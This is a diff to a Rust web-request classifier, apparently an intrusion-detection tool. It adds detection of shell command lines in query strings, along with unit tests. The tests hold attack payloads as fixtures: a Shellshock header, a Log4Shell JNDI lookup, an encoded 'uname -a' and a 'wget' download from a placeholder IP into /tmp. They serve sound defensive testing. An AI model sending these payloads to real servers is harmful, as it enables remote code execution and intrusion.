@@ -365,6 +365,13 @@ fn classify(
     if let Some(q) = decoded_query.as_deref().filter(|_| decoded_query_differs) {
         found |= l.injection_classes(q);
     }
+    // The query is itself a shell command line (`/shell?uname -a`, router exploits).
+    if decoded_query
+        .as_deref()
+        .is_some_and(super::shell::is_command_line)
+    {
+        found |= CODE_BIT;
+    }
     // Log4Shell and Shellshock payloads travel in headers: the user agent is searched too, for
     // code only, when it has the opening of one.
     // One SIMD scan for `{` first: user agents almost never have one.
@@ -666,6 +673,13 @@ mod tests {
             Some("() { :; }; /bin/bash -c 'id'")
         ));
         assert!(code("/", None, Some("Nuclei ${jndi:ldap://x.example/a}")));
+        // A query that is a command line, letter by letter encoded (fail2ban's test line).
+        assert!(code("/shell", Some("%75%6E%61%6D%65%20%2D%61"), None));
+        assert!(code(
+            "/shell",
+            Some("cd+/tmp;wget+http://198.51.100.1/m"),
+            None
+        ));
         // Ordinary requests.
         for (path, query, ua) in [
             ("/api/v1/search", Some("q=curl+tutorial&sort=new"), None),
